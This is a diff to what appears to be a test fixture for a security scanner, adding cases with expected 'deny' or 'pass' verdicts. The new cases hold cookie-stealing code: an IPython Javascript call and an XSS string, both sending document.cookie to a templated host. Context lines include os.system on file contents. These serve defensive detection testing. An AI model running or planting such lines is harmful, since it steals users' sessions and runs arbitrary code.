@@ -60,6 +60,18 @@ export const otherCarriers: readonly Shape[] = [
     '!mkdir -p ~/.kaggle && cp kaggle.json ~/.kaggle/ && chmod 600 ~/.kaggle/kaggle.json',
   ),
 
+  one(
+    'a page that a module shows',
+    'deny',
+    'demo/__init__.py',
+    `from IPython.display import Javascript, display\ndisplay(Javascript("fetch('${host}', {method: 'POST', body: document.cookie})"))\n`,
+  ),
+  one(
+    'a list of what attackers write',
+    'pass',
+    'demo/payloads.py',
+    `PAYLOADS = ["<script>fetch('${host}?c=' + document.cookie)</script>"]\n`,
+  ),
   used('a command in a text', 'deny', 'x.txt', harm, 'os.system(open(p).read())'),
   used(
     'a command in JSON',
